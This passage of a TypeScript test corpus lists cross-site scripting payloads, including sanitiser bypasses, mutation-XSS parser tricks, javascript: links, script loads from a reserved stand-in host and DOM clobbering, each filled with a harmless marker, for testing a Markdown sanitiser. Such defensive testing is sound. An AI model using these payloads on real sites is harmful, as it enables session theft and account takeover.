/**
 * What has made browsers, sanitisers and renderers of Markdown run or fetch what a stranger wrote, as data. Nothing here runs by itself.
 *
 * In `text` stand, already filled in, the marks by which a test sees that a payload has won. They are the same for all:
 * - `__xss(/name/)`, a call without quotes, spaces or angle brackets, so that it fits wherever script may stand. The page under test
 *   defines `__xss` before anything else runs (`MARKER_SOURCE`), in frames too.
 * - `https://xss.invalid/name`, an address that nothing may be fetched from. The domain never exists (RFC 6761); the browser's
 *   requests for it are to be caught and counted.
 *
 * `harm` says what would be a failure. Every payload fits into its field as the API limits it, which `xss-corpus.test.ts` checks, so that all of
 * them can be stored by the real server.
 */

/** The host that nothing may be fetched from. */
export const FOREIGN_HOST = "xss.invalid";

/**
 * Script that makes `__xss` in a page or frame: it keeps the names in `__xssRan`, and passes each to `__xssReport`, where a test has put
 * a function of its own.
 */
export const MARKER_SOURCE = `globalThis.__xssRan = [];
globalThis.__xss = (mark) => {
  const name = String(mark).replaceAll("/", "");
  globalThis.__xssRan.push(name);
  if (typeof globalThis.__xssReport === "function") globalThis.__xssReport(name);
};`;

/**
 * What a payload does if it wins:
 * - `script`: it calls `__xss`.
 * - `request`: something is fetched from the foreign host.
 * - `image`: an image is, which the server's policy allows by default and `IMAGES=self` does not.
 * - `clobber`: an element in what was written has an `id` or a `name`, by which it stands in a global's or a form's place.
 * - `style`: what was written has a look or a place of its own: `style`, `class`, a style sheet.
 * - `confuse`: a link leads elsewhere than to its user or tag, or text around it changes its order. Whatever it is, the page works.
 */
export type Harm = "script" | "request" | "image" | "clobber" | "style" | "confuse";

/** Where it is written. `text` is every field of text: titles, descriptions, bodies, comments, bios, placed one by one. */
export type Field = "text" | "image" | "username" | "tag";

/** What a visitor has to do so that it runs. */
export type Act = "click" | "hover" | "type";

export interface Payload {
  /** Unique; lower case, digits and hyphens. */
  readonly name: string;
  readonly field: Field;
  readonly text: string;
  readonly harm: Harm;
  readonly act?: Act;
  /** Where such a thing has worked. */
  readonly why: string;
}

type Row = readonly [name: string, text: string, why: string, besides?: Partial<Pick<Payload, "harm" | "act">>];

/** The call by which a payload shows that it has run. */
export function callOf(name: string): string {
  return `__xss(/${name}/)`;
}

/** The address that a payload fetches. */
export function urlOf(name: string): string {
  return `https://${FOREIGN_HOST}/${name}`;
}

/** What stands in the rows for a mark, in braces. */
const MARKS: Readonly<Record<string, (name: string) => string>> = {
  js: callOf,
  url: urlOf,
  /** The address without its scheme. */
  host: (name) => `//${FOREIGN_HOST}/${name}`,
  /** The call as character references: decimal, hexadecimal, and decimal with zeros and without a semicolon. */
  dec: (name) => references(callOf(name), (code) => `&#${code};`),
  hex: (name) => references(callOf(name), (code) => `&#x${code.toString(16)};`),
  bare: (name) => references(callOf(name), (code) => `&#${String(code).padStart(7, "0")}`),
  /** The call with its name written in escapes of JavaScript. */
  esc: (name) => callOf(name).replaceAll("_", String.raw`\u005f`),
  /** The call in percent-encoding, every character of it. */
  pct: (name) => references(callOf(name), (code) => `%${code.toString(16)}`),
  /** A page of HTML that makes the call, in Base64. */
  page64: (name) => Buffer.from(`<script>${callOf(name)}</script>`).toString("base64"),
  /** An SVG that makes the call, in Base64. */
  svg64: (name) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${callOf(name)}"/>`).toString("base64"),
};

function references(text: string, write: (code: number) => string): string {
  return [...text].map((character) => write(character.codePointAt(0)!)).join("");
}

function fill(name: string, text: string): string {
  return text.replaceAll(/\{(js|url|host|dec|hex|bare|esc|pct|page64|svg64)\}/g, (_, mark: string) =>
    MARKS[mark]!(name),
  );
}

function group(field: Field, harm: Harm, rows: readonly Row[]): Payload[] {
  return rows.map(([name, text, why, besides = {}]) => ({
    name,
    field,
    text: fill(name, text),
    harm,
    why,
    ...besides,
  }));
}

const SCRIPT_ELEMENTS = group("text", "script", [
  ["script-plain", "<script>{js}</script>", "The oldest of all: Markdown passes HTML on, and nobody takes it out."],
  ["script-upper", "<SCRIPT>{js}</SCRIPT>", "Filters that look for lower case."],
  ["script-mixed", "<ScRiPt>{js}</sCrIpT>", "Filters that look for two spellings."],
  [
    "script-src",
    '<script src="{url}"></script>',
    "Script from elsewhere, for filters that read the content alone.",
    { harm: "request" },
  ],
  ["script-src-relative-scheme", "<script src={host}></script>", "No quotes and no scheme.", { harm: "request" }],
  ["script-src-data", '<script src="data:text/javascript,{js}"></script>', "The address holds the script."],
  ["script-unclosed", "<script>{js}", "Closed at the end of the page, and run by older browsers."],
  ["script-end-with-space", "<script>{js}</script >", "White space in the end tag."],
  ["script-end-with-attribute", '<script>{js}</script x="y">', "End tags may have attributes, which are dropped."],
  ["script-within-script", "<scr<script>ipt>{js}</scr</script>ipt>", "Taking the inner one out makes the outer one."],
  ["script-slash", "<script/x>{js}</script/x>", "A slash ends a tag's name as a space does."],
  ["script-newline", "<script\n>{js}</script\n>", "A line end ends it as well; patterns that stop at lines miss it."],
  ["script-form-feed", "<script\f>{js}</script\f>", "And so does a form feed, which few lists of white space have."],
  ["script-null-reference", "<scr&#0;ipt>{js}</scr&#0;ipt>", "Decoders that drop the character after the check."],
  ["script-module", '<script type="module">{js}</script>', "Another type than the one that is looked for."],
  [
    "script-type-unknown",
    '<script type="text/x-template"><img src=x onerror={js}></script>',
    "Kept as harmless, and made markup later.",
  ],
  [
    "script-double-bracket",
    "<<script>{js}//<</script>",
    "The first bracket is text for a browser and a tag for some filters.",
  ],
  [
    "script-after-empty-comment",
    "<!--><script>{js}</script>-->",
    "The comment ends at once; filters see one that goes on.",
  ],
  ["script-after-short-comment", "<!---><script>{js}</script>-->", "As before, with one hyphen more."],
  ["script-after-bang-comment", "<!-- --!><script>{js}</script> -->", "A comment also ends with an exclamation mark."],
  ["script-in-cdata", "<![CDATA[<script>{js}</script>]]>", "Character data in SVG, a comment that ends early in HTML."],
  [
    "script-after-instruction",
    "<?x y='><script>{js}</script>'?>",
    "Processing instructions are comments up to the first bracket.",
  ],
  ["script-after-doctype", "<!doctype x '><script>{js}</script>'>", "The same for a declaration."],
  [
    "script-in-noscript",
    '<noscript><p title="</noscript><script>{js}</script>"></noscript>',
    "Text or markup, as scripting is on or off: the check and the page differ.",
  ],
  ["script-full-width", "＜script＞{js}＜/script＞", "Normalising after the check turns these into brackets."],
  ["script-escaped-once", "&lt;script&gt;{js}&lt;/script&gt;", "Decoded once too often it is markup."],
  ["script-escaped-twice", "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;", "Decoded twice too often."],
  ["script-percent", "%3Cscript%3E{js}%3C/script%3E", "Decoded as an address would be."],
  [
    "script-utf-7",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "Pages without an encoding were once guessed to be in this one.",
  ],
  [
    "script-entity-names",
    "&LT;script&GT;{js}&LT;/script&GT;",
    "Names of character references that are not in every list.",
  ],
  [
    "script-src-slashes",
    '<script src="/\\xss.invalid/script-src-slashes"></script>',
    "A backslash counts as a slash in addresses.",
    { harm: "request" },
  ],
  ["script-in-svg", "<svg><script>{js}</script></svg>", "Foreign content has script elements of its own."],
  ["script-in-svg-references", "<svg><script>{dec}</script></svg>", "In SVG references within script are decoded."],
  ["script-in-svg-href", '<svg><script href="{url}"/></svg>', "SVG's script has no `src`.", { harm: "request" }],
  ["script-in-math", "<math><mtext><script>{js}</script></mtext></math>", "Integration points let HTML in."],
  [
    "script-in-template",
    "<template><script>{js}</script></template>",
    "Inert, and alive when the content is cloned into the page.",
  ],
]);

const EVENT_ATTRIBUTES = group("text", "script", [
  ["img-error", "<img src=x onerror={js}>", "The usual one where only script elements are taken out."],
  ["img-error-double", '<img src="x" onerror="{js}">', "With double quotes."],
  ["img-error-single", "<img src='x' onerror='{js}'>", "With single quotes."],
  [
    "img-error-slashes",
    "<img/src=x/onerror={js}>",
    "Slashes in the place of spaces; here the first value swallows the rest in a browser.",
  ],
  ["img-error-slash-quoted", '<img/src="x"/onerror="{js}">', "Slashes between quoted attributes."],
  ["img-error-no-space", '<img src="x"onerror="{js}">', "Nothing at all after a closing quote."],
  ["img-error-tab", "<img\tsrc=x\tonerror={js}>", "Tabs."],
  ["img-error-newline", "<img\nsrc=x\nonerror={js}>", "Line ends, which make other blocks of it in some renderers."],
  ["img-error-form-feed", "<img\fsrc=x\fonerror={js}>", "Form feeds."],
  ["img-error-around-equals", "<img src = x onerror \n = \n {js}>", "White space around the equals sign."],
  ["img-error-upper", "<IMG SRC=x ONERROR={js}>", "Upper case."],
  ["img-error-backticks", "<img src=`x`onerror={js}>", "Backticks were quotes in one browser."],
  ["img-error-decimal", '<img src=x onerror="{dec}">', "Values are decoded before they are script."],
  ["img-error-hex", '<img src=x onerror="{hex}">', "And so are these."],
  ["img-error-bare", '<img src=x onerror="{bare}">', "References with zeros in front and nothing at their end."],
  ["img-error-escapes", '<img src=x onerror="{esc}">', "Escapes in a name of JavaScript."],
  ["img-error-twice", '<img src=x onerror="1" onerror="{js}">', "Which of two counts differs between parsers."],
  ["img-error-unclosed", "<img src=x onerror={js} ", "The next bracket on the page closes it."],
  ["img-error-comment-end", "<img src=x onerror={js}//", "As before, with what follows made a comment."],
  ["img-error-odd-quote", '<img """><img src=x onerror={js}>">', "Quotes where a name is wanted."],
  ["img-error-bracket-in-value", '<img title=">" src=x onerror={js}>', "Patterns that end a tag at the first bracket."],
  ["img-error-equals-name", "<img =x src=x onerror={js}>", "A name that begins with an equals sign is one."],
  ["img-error-quote-in-name", '<img src=x a"b onerror={js}>', "A quote within a name."],
  ["img-error-line-separator", "<img src=x\u2028onerror={js}>", "Looks like a line end and is none."],
  ["img-error-no-break-space", "<img\u00a0src=x\u00a0onerror={js}>", "Looks like a space and is part of the name."],
  [
    "img-error-prefixed",
    "<img src=x x:onerror={js} xml:onerror={js} onerror={js}>",
    "Prefixes that are taken off after the check.",
  ],
  [
    "img-load",
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload="{js}">',
    "An image that is there.",
  ],
  ["image-element", "<image src=x onerror={js}>", "Parsers turn it into `img`."],
  ["svg-load", "<svg onload={js}>", "Needs no address at all."],
  ["svg-load-slash", "<svg/onload={js}>", "And no space."],
  ["body-load", "<body onload={js}>", "Attributes of a second body go to the first."],
  ["body-pageshow", "<body onpageshow={js}>", "As before, an event that is seldom listed."],
  ["html-focus", "<html onfocusin={js}>", "The same for the root."],
  [
    "details-toggle",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "It fires without anybody's doing, and the element is often allowed.",
  ],
  ["input-autofocus", "<input autofocus onfocus={js}>", "Takes the focus by itself."],
  ["select-autofocus", "<select autofocus onfocus={js}>", "As the input."],
  ["textarea-autofocus", "<textarea autofocus onfocus={js}>", "As the input."],
  ["any-autofocus", "<p tabindex=0 autofocus onfocus={js}>x</p>", "Any element may take the focus."],
  [
    "custom-element",
    "<x-y tabindex=0 autofocus onfocus={js}>x</x-y>",
    "Elements that no list knows have the same events.",
  ],
  [
    "unknown-element",
    "<xss onpointerenter={js}>move here</xss>",
    "And so have those that nobody has defined.",
    { act: "hover" },
  ],
  ["video-error", "<video src=x onerror={js}></video>", "Media without a source."],
  ["video-source-error", "<video><source onerror={js}></video>", "The source alone."],
  ["audio-error", "<audio src=x onerror={js}></audio>", "As the video."],
  ["iframe-load", "<iframe onload={js}></iframe>", "An empty frame is loaded, too."],
  ["object-error", "<object data=x onerror={js}></object>", "Objects report failures."],
  ["embed-load", "<embed src=x onload={js}>", "And so do embeds."],
  ["link-error", '<link rel="stylesheet" href="x" onerror="{js}">', "A style sheet that is not there."],
  ["style-load", "<style onload={js}></style>", "A style sheet that is."],
  [
    "track-error",
    '<video><track default kind="captions" src="x" onerror="{js}"></video>',
    "Captions are fetched, too.",
  ],
  ["marquee-start", "<marquee onstart={js}>x</marquee>", "Old, and it begins by itself."],
  [
    "animation-start",
    '<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart={js}>x</p>',
    "Styles set off events.",
  ],
  [
    "transition-end",
    '<style>#x-run:hover{color:red}</style><a id="x-run" href="#" style="transition:color 1s" ontransitionrun={js}>x</a>',
    "And so does the pointer over a link.",
    { act: "hover" },
  ],
  [
    "content-visibility",
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange={js}>x</p>',
    "A newer one.",
  ],
  [
    "popover-toggle",
    '<button popovertarget="x-pop">x</button><div popover id="x-pop" onbeforetoggle={js}>y</div>',
    "A button opens what stands beside it.",
    { act: "click" },
  ],
  ["hidden-until-found", '<p hidden="until-found" onbeforematch={js}>needle</p>', "Searching in the page fires it."],
  ["paragraph-click", "<p onclick={js}>click</p>", "Waits for a click.", { act: "click" }],
  ["link-hover", '<a href="#" onmouseover="{js}">x</a>', "Waits for a pointer.", { act: "hover" }],
  [
    "pointer-raw",
    "<b onpointerrawupdate={js}>x</b>",
    "Not in the lists that were written before it.",
    { act: "hover" },
  ],
  ["content-editable", "<p contenteditable onbeforeinput={js}>x</p>", "Waits for typing.", { act: "type" }],
  [
    "scroll-end",
    '<div style="overflow:auto;height:9px" onscrollend={js}><p>x</p><p autofocus tabindex=0>y</p></div>',
    "The focus scrolls to its element.",
  ],
  [
    "security-policy",
    "<p onsecuritypolicyviolation={js}><audio src=x></p>",
    "The very policy that stops the sound sets it off.",
  ],
  ["unhandled-rejection", "<body onunhandledrejection={js}>", "Events of the window, on the body."],
  [
    "webkit-prefix",
    '<style>@keyframes b{}</style><p style="animation:b 1s" onwebkitanimationstart={js}>x</p>',
    "Prefixed names of events.",
  ],
]);

const LINKS = group(
  "text",
  "script",
  (
    [
      ["link-javascript", "[x](javascript:{js})", "Markdown's own link, for renderers that check no scheme."],
      ["link-javascript-upper", "[x](JAVASCRIPT:{js})", "Schemes have no case."],
      ["link-javascript-mixed", "[x](jAvAsCrIpT:{js})", "As before."],
      ["link-javascript-brackets", "[x](<javascript:{js}>)", "The other form of an address."],
      ["link-javascript-space", "[x](< javascript:{js}>)", "Browsers take off spaces in front."],
      ["link-javascript-tab", "[x](java&Tab;script:{js})", "Browsers take tabs out of the middle."],
      ["link-javascript-newline", "[x](java&NewLine;script:{js})", "And line ends."],
      ["link-javascript-control", "[x](&#1;javascript:{js})", "Control characters in front."],
      ["link-javascript-colon", "[x](javascript&colon;{js})", "A name of a reference for the colon."],
      ["link-javascript-hex", "[x](&#x6A;avascript:{js})", "A reference for the first letter."],
      ["link-javascript-bare", "[x](&#0000106avascript:{js})", "As before, with nothing at its end."],
      ["link-javascript-percent-colon", "[x](javascript%3A{js})", "Decoded before the check of another layer."],
      [
        "link-javascript-percent-code",
        "[x](javascript:{pct})",
        "The code of such an address is decoded before it runs.",
      ],
      ["link-javascript-backslash", "[x](java\\script:{js})", "Escapes of Markdown that are no escapes here."],
      [
        "link-javascript-comment",
        "[x](javascript://example.org/%0A{js})",
        "Looks like an address with a host: a comment, a line end, code.",
      ],
      ["link-javascript-title", '[x](javascript:{js} "a title")', "With a title behind it."],
      ["link-javascript-reference", "[x][ref-a]\n\n[ref-a]: javascript:{js}", "The address stands elsewhere."],
      ["link-javascript-reference-brackets", "[x][ref-b]\n\n[ref-b]: <javascript:{js}>", "Elsewhere, in brackets."],
      ["link-javascript-shortcut", "[ref-c]\n\n[ref-c]: javascript:{js}", "The shortest reference."],
      ["link-javascript-autolink", "<javascript:{js}>", "CommonMark links any scheme in brackets."],
      ["link-javascript-autolink-comment", "<javascript://x/%0a{js}>", "With something that looks like a host."],
      ["link-vbscript", "[x](vbscript:{js})", "The other scheme that ran."],
      ["link-livescript", "[x](livescript:{js})", "And its predecessor."],
      ["link-data-html", "[x](data:text/html,<script>{js}</script>)", "A page in an address."],
      [
        "link-data-html-base64",
        "[x](data:text/html;base64,{page64})",
        "The same, where the text is searched for tags.",
      ],
      [
        "link-data-svg",
        "[x](data:image/svg+xml;base64,{svg64})",
        "An image that is a page with script when one goes there.",
      ],
      ["link-data-upper", "[x](DaTa:text/html;base64,{page64})", "Schemes have no case here either."],
      ["link-data-no-type", "[x](data:,<script>{js}</script>)", "Text by the standard, guessed by some."],
      ["link-feed", "[x](feed:javascript:{js})", "A scheme around a scheme."],
      ["link-view-source", "[x](view-source:javascript:{js})", "As before."],
      ["link-blob", "[x](blob:javascript:{js})", "As before, of a kind that looks internal."],
      ["link-file-system", "[x](filesystem:javascript:{js})", "As before."],
      ["anchor-javascript", '<a href="javascript:{js}">x</a>', "As HTML."],
      [
        "anchor-javascript-blank",
        '<a target="_blank" href="javascript:{js}">x</a>',
        "Into a new tab, which has our origin.",
      ],
      ["anchor-javascript-unquoted", "<a href=javascript:{js}>x</a>", "Without quotes."],
      [
        "anchor-javascript-references",
        '<a href="&#x09;java&#x0A;script&#x0D;:{js}">x</a>',
        "White space in three places.",
      ],
      [
        "anchor-javascript-all-decimal",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{dec}">x</a>',
        "Not one letter as it is.",
      ],
      [
        "anchor-javascript-soft-hyphen",
        '<a href="java\u00adscript:{js}">x</a>',
        "Invisible; dropped by some normalisation.",
      ],
      ["anchor-javascript-zero-width", '<a href="java\u200bscript:{js}">x</a>', "As before."],
      ["anchor-javascript-full-width", '<a href="ｊavascript:{js}">x</a>', "A letter that NFKC makes plain."],
      ["anchor-javascript-long-s", '<a href="javaſcript:{js}">x</a>', "Upper case makes an S of it."],
      [
        "anchor-javascript-vertical-tab",
        '<a href="\u000bjavascript:{js}">x</a>',
        "White space in one list and not in the other.",
      ],
      [
        "anchor-javascript-ideographic",
        '<a href="\u3000javascript:{js}">x</a>',
        "A wide space in front, which `trim` takes off.",
      ],
      [
        "anchor-javascript-delete",
        '<a href="\u007fjavascript:{js}">x</a>',
        "A control character that is above the others.",
      ],
      ["anchor-void", '<a href="javascript:void {js}">x</a>', "Where a harmless use is let through."],
      ["anchor-twice", '<a href="#" href="javascript:{js}">x</a>', "The first counts, or the last."],
      [
        "anchor-xlink",
        '<svg><a xlink:href="javascript:{js}"><text y="20">x</text></a></svg>',
        "SVG's links have another attribute.",
      ],
      ["anchor-svg-href", '<svg><a href="javascript:{js}"><text y="20">x</text></a></svg>', "Or the same one."],
      [
        "anchor-svg-animated",
        '<svg><a><animate attributeName="href" values="javascript:{js}"/><text y="20">x</text></a></svg>',
        "An animation sets the address after the check.",
      ],
      [
        "anchor-svg-set",
        '<svg><a><set attributeName="href" to="javascript:{js}"/><text y="20">x</text></a></svg>',
        "The other animation.",
      ],
      [
        "anchor-svg-animate-from",
        '<svg><a href="#"><animate attributeName="xlink:href" from="javascript:{js}" to="#"/><text y="20">x</text></a></svg>',
        "From it instead of to it.",
      ],
      ["math-href", '<math href="javascript:{js}"><mtext>x</mtext></math>', "MathML's elements were links."],
      [
        "math-action",
        '<math><maction actiontype="statusline" xlink:href="javascript:{js}">x</maction></math>',
        "One of them in a special way.",
      ],
      [
        "area-javascript",
        '<img src="data:," usemap="#m" width="99" height="99"><map name="m"><area shape="default" href="javascript:{js}"></map>',
        "A link in an image.",
      ],
      ["form-action", '<form action="javascript:{js}"><button>x</button></form>', "Forms have addresses."],
      [
        "button-formaction",
        '<form><button formaction="javascript:{js}">x</button></form>',
        "And so have their buttons.",
      ],
      [
        "input-formaction",
        '<form><input type="submit" formaction="javascript:{js}" value="x"></form>',
        "And so have inputs.",
      ],
      [
        "input-image-formaction",
        '<form><input type="image" alt="x" formaction="javascript:{js}"></form>',
        "Those that are images, too.",
      ],
      [
        "button-form-elsewhere",
        '<form id="f-elsewhere"></form><button form="f-elsewhere" formaction="javascript:{js}">x</button>',
        "The form stands somewhere else.",
      ],
      ["isindex", '<isindex action="javascript:{js}" prompt="x">', "An element that parsers once made a form of."],
      ["base-javascript", '<base href="javascript:{js}//"><a href="#">x</a>', "Harmless links become others."],
      [
        "polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={js}//>\\x3e",
        "Fits attributes, comments, texts and scripts at once.",
      ],
    ] satisfies Row[]
  ).map(([name, text, why]): Row => [name, text, why, { act: "click" }]),
);

const FOREIGN_CONTENT = group("text", "script", [
  ["svg-animate-begin", "<svg><animate onbegin={js} attributeName=x dur=1s /></svg>", "Animations fire events."],
  ["svg-animate-end", "<svg><animate onend={js} attributeName=x dur=1s /></svg>", "At their end, too."],
  ["svg-set-begin", "<svg><set onbegin={js} attributeName=x dur=1s /></svg>", "And so does this one."],
  ["svg-animate-motion", "<svg><animateMotion onbegin={js} dur=1s /></svg>", "And this."],
  ["svg-discard", "<svg><discard onbegin={js} /></svg>", "And one that few know."],
  ["svg-foreign-object", "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>", "HTML within SVG."],
  [
    "svg-foreign-frame",
    '<svg><foreignObject><iframe srcdoc="<script>{js}</script>"></iframe></foreignObject></svg>',
    "A frame within it.",
  ],
  ["svg-desc", "<svg><desc><img src=x onerror={js}></desc></svg>", "Descriptions hold HTML."],
  ["svg-title", "<svg><title><img src=x onerror={js}></title></svg>", "And so do titles, of which HTML makes text."],
  [
    "svg-use-data",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{js}'/></svg>#x\"/></svg>",
    "Another document's element, with its events.",
  ],
  ["svg-use-foreign", '<svg><use href="{url}#x"/></svg>', "The same from elsewhere.", { harm: "request" }],
  ["svg-image", '<svg><image href="{url}" width="9" height="9"/></svg>', "SVG's own images.", { harm: "image" }],
  [
    "svg-image-xlink",
    '<svg><image xlink:href="{url}" width="9" height="9"/></svg>',
    "With the old attribute.",
    { harm: "image" },
  ],
  [
    "svg-fe-image",
    '<svg width="9" height="9"><filter id="fi"><feImage href="{url}"/></filter><rect width="9" height="9" filter="url(#fi)"/></svg>',
    "An image that is a filter.",
    { harm: "image" },
  ],
  [
    "svg-filter-url",
    '<svg><rect width="9" height="9" fill="url({url}#x)" filter="url({url}#x)" mask="url({url}#x)"/></svg>',
    "Attributes of looks have addresses.",
    { harm: "request" },
  ],
  ["svg-style", "<svg><style>@import '{url}';</style></svg>", "A style sheet within.", { harm: "request" }],
  ["svg-handler", '<svg><handler type="text/javascript">{js}</handler></svg>', "An element of SVG Tiny."],
  [
    "svg-listener",
    '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><script id="h">{js}</script><ev:listener event="load" handler="#h"/></svg>',
    "Events of XML.",
  ],
  ["svg-self-closing", "<svg/><img src=x onerror={js}>", "Closed for XML, and for HTML in foreign content alone."],
  ["svg-cdata", "<svg><![CDATA[><img src=x onerror={js}>]]></svg>", "Text here, markup where the SVG is taken off."],
  [
    "svg-case",
    "<svg><FOREIGNOBJECT><IMG SRC=x ONERROR={js}></FOREIGNOBJECT></svg>",
    "Names whose case the parser adjusts.",
  ],
  [
    "svg-font-breakout",
    "<svg><font color=red><img src=x onerror={js}></svg>",
    "An attribute of `font` leaves the foreign content.",
  ],
  [
    "svg-xml-base",
    '<svg><a xml:base="javascript:{js}//" href="#"><text y="20">x</text></a></svg>',
    "The base of an address within SVG.",
    { act: "click" },
  ],
  ["math-mtext", "<math><mtext><img src=x onerror={js}></mtext></math>", "HTML within MathML."],
  [
    "math-annotation",
    '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>',
    "HTML by its encoding.",
  ],
  [
    "math-annotation-svg",
    "<math><annotation-xml><svg><foreignObject><img src=x onerror={js}></foreignObject></svg></annotation-xml></math>",
    "And SVG within.",
  ],
  ["math-mglyph", '<math><mi><mglyph src="{url}"></mglyph></mi></math>', "MathML's own images.", { harm: "image" }],
]);

const MUTATIONS = group("text", "script", [
  [
    "mutation-noscript-style",
    "<noscript><style></noscript><img src=x onerror={js}></style></noscript>",
    "What is text in one parser is markup in the other.",
  ],
  ["mutation-textarea", "<textarea></textarea><img src=x onerror={js}>", "What is written out ends it."],
  [
    "mutation-title",
    '<svg></p><title><a id="</title><img src=x onerror={js}>"></title></svg>',
    "Markup in SVG, text in HTML.",
  ],
  [
    "mutation-style-attribute",
    '<svg></p><style><a title="</style><img src=x onerror={js}>">',
    "An attribute within a style that is foreign at first and not at second parsing.",
  ],
  [
    "mutation-math-style",
    '<math></p><style><!--</style><a title="--><img src=x onerror={js}>">',
    "The comment begins in one of both alone.",
  ],
  [
    "mutation-math-table-style",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "A second form is dropped, and with it the place of the rest changes.",
  ],
  [
    "mutation-mglyph-style",
    '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror={js}>',
    "A table moves `mglyph` to where it is foreign.",
  ],
  [
    "mutation-mglyph-comment",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
    "The same, by a comment.",
  ],
  [
    "mutation-malignmark",
    "<math><mtext><mtext><malignmark><style></math><img src=x onerror={js}>",
    "The other element that stays foreign.",
  ],
  [
    "mutation-xmp",
    '<svg><xmp><a title="</xmp><img src=x onerror={js}>"></svg>',
    "An element whose content is text in HTML alone.",
  ],
  ["mutation-listing", "<listing>&lt;img src=x onerror={js}&gt;</listing>", "Was written out without escapes."],
  ["mutation-plaintext", "<plaintext><img src=x onerror={js}>", "Never ends; what follows on the page is swallowed."],
  [
    "mutation-noembed",
    '<noembed><img title="</noembed><img src=x onerror={js}>"></noembed>',
    "Text or markup, as for `noscript`.",
  ],
  ["mutation-noframes", '<noframes><img title="</noframes><img src=x onerror={js}>"></noframes>', "As before."],
  ["mutation-iframe-text", '<iframe><img title="</iframe><img src=x onerror={js}>"></iframe>', "As before."],
  [
    "mutation-select",
    '<select><template><img src=x onerror={js}></template><style><img title="</style><img src=x onerror={js}>"></select>',
    "Within `select` nearly all is dropped, and lately it is not.",
  ],
  ["mutation-select-keygen", "<select><keygen><img src=x onerror={js}></select>", "What ends a selection early."],
  [
    "mutation-table-foster",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror={js}></table>",
    "What does not belong into a table is moved before it.",
  ],
  [
    "mutation-caption",
    "<table><caption><svg><title><table><caption><style></caption><img src=x onerror={js}>",
    "Nested captions close each other.",
  ],
  [
    "mutation-nested-anchor",
    '<a><svg><desc><a><style><img title="</a><img src=x onerror={js}>"></a>',
    "A link in a link ends the first.",
  ],
  [
    "mutation-nested-form",
    '<form id="x"><div></form><form><input name="action"><img src=x onerror={js}>',
    "A form in a form, which writing and reading makes two.",
  ],
  [
    "mutation-template-style",
    "<template><style></template><img src=x onerror={js}></style></template>",
    "A template's content is another document's.",
  ],
  [
    "mutation-template-shadow",
    "<div><template shadowrootmode=open><img src=x onerror={js}></template></div>",
    "Markup that becomes a shadow tree while it is parsed.",
  ],
  [
    "mutation-p-in-svg",
    '<svg><p><style><g title="</style><img src=x onerror={js}>">',
    "An element that leaves SVG, or stays, as its place was.",
  ],
  ["mutation-br-in-math", '<math><br><style><img title="</style><img src=x onerror={js}>">', "As before."],
  [
    "mutation-integration-point",
    '<math><annotation-xml encoding="application/xhtml+xml"><style><!--</style><img title="--><img src=x onerror={js}>">',
    "An encoding decides what is inside.",
  ],
  ["mutation-backtick", '<img alt="``onerror={js}" src=x>', "Written out without quotes by one browser."],
  ["mutation-entity-in-attribute", '<img alt="&quot; onerror={js} x=&quot;" src=x>', "Decoded and not encoded again."],
  [
    "mutation-nbsp-in-attribute",
    '<a title="&lt;/a&gt;&lt;img src=x onerror={js}&gt;">x</a>',
    "Brackets in values are written out as they are by older browsers.",
  ],
  [
    "mutation-processing-instruction",
    '<svg><?x <img title="?><img src=x onerror={js}>"></svg>',
    "An instruction in XML, a comment in HTML.",
  ],
  [
    "mutation-deep",
    `${"<div>".repeat(520)}<math><mtext><style><img title="</style><img src=x onerror={js}>">`,
    "Beyond 512 levels browsers flatten the tree, which gives another one at the second parsing.",
  ],
  [
    "mutation-deep-svg",
    `${"<a><b>".repeat(260)}<svg><desc>${"<i>".repeat(10)}<style><img title="</style><img src=x onerror={js}>">`,
    "The same with elements that are reopened.",
  ],
  [
    "mutation-comment-dashes",
    "<!-- a --- <img src=x onerror={js}> -- -->x",
    "Where a comment ends has changed over time.",
  ],
  ["mutation-comment-in-title", "<title><!--</title><img src=x onerror={js}>-->", "A comment in text is none."],
  [
    "mutation-is-attribute",
    '<div is="</div><img src=x onerror={js}>">x</div>',
    "An attribute that cannot be removed once it is there.",
  ],
  ["mutation-quote-name", '<img "=" src=x onerror={js} x=">">', "Names that cannot be written out as they were read."],
]);

const CLOBBERING = group(
  "text",
  "clobber",
  [
    "__conduit_debug__",
    "jwtToken",
    "body",
    "head",
    "root",
    "main",
    "navigation",
    "location",
    "history",
    "localStorage",
    "fetch",
    "EventSource",
    "trustedTypes",
    "document",
    "title",
    "cookie",
    "getElementById",
    "querySelector",
    "createElement",
    "activeElement",
    "defaultView",
    "currentScript",
    "session",
    "api",
    "config",
    "user",
    "token",
    "field-body",
    "__proto__",
    "constructor",
    "toString",
    "nodeName",
    "parentNode",
    "attributes",
  ]
    .map((name): Row => [
      `clobber-${name
        .toLowerCase()
        .replaceAll(/[^a-z0-9]+/g, "-")
        .replaceAll(/^-|-$/g, "")}`,
      `<img id="${name}" name="${name}" alt="clobber"><a id="${name}" name="${name}" href="cid:x">clobber</a>`,
      "Elements with an id or a name are found as properties of the window and of the document.",
    ])
    .concat([
      [
        "clobber-form-members",
        '<form id="f-members" name="f-members"><input name="attributes"><input name="parentNode"><input name="nodeName"><input name="submit" value="x"></form>',
        "A form's inputs stand in the place of its own members, so that a sanitiser walks past it.",
      ],
      [
        "clobber-form-nested",
        '<form id="__conduit_debug__"><output name="getToken">x</output><output name="getAuthState">x</output></form>',
